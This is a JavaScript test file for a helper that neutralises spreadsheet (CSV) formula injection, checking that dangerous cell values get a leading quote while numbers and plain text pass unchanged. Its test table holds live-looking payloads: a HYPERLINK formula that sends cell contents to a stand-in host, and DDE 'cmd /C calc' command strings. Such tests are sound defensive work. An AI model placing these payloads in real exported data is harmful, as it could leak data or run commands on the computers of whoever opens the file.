import { safeCell, safeRow } from './spreadsheet-safe.js';

describe('spreadsheet-safe cells (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?a="&A1,"点击")'],
    ["+SUM(1+1)*cmd|' /C calc'!A0"],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(1,2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-'],
    ['+'],
  ])('neutralises %j', (v) => {
    expect(safeCell(v)).toBe(`'${v}`);
  });

  it('leaves numbers, plain decimal text and ordinary text alone', () => {
    expect(safeCell(-0.05)).toBe(-0.05);
    expect(safeCell('-0.05000000')).toBe('-0.05000000');
    expect(safeCell('+12.5')).toBe('+12.5');
    expect(safeCell('-1e-3')).toBe('-1e-3');
    expect(safeCell('昆山市第一建设有限公司')).toBe('昆山市第一建设有限公司');
    expect(safeCell('a=b')).toBe('a=b');
    expect(safeCell(null)).toBeNull();
    expect(safeCell(3)).toBe(3);
    expect(safeRow(['=1', 2, '-3', null])).toEqual(["'=1", 2, '-3', null]);
  });
});
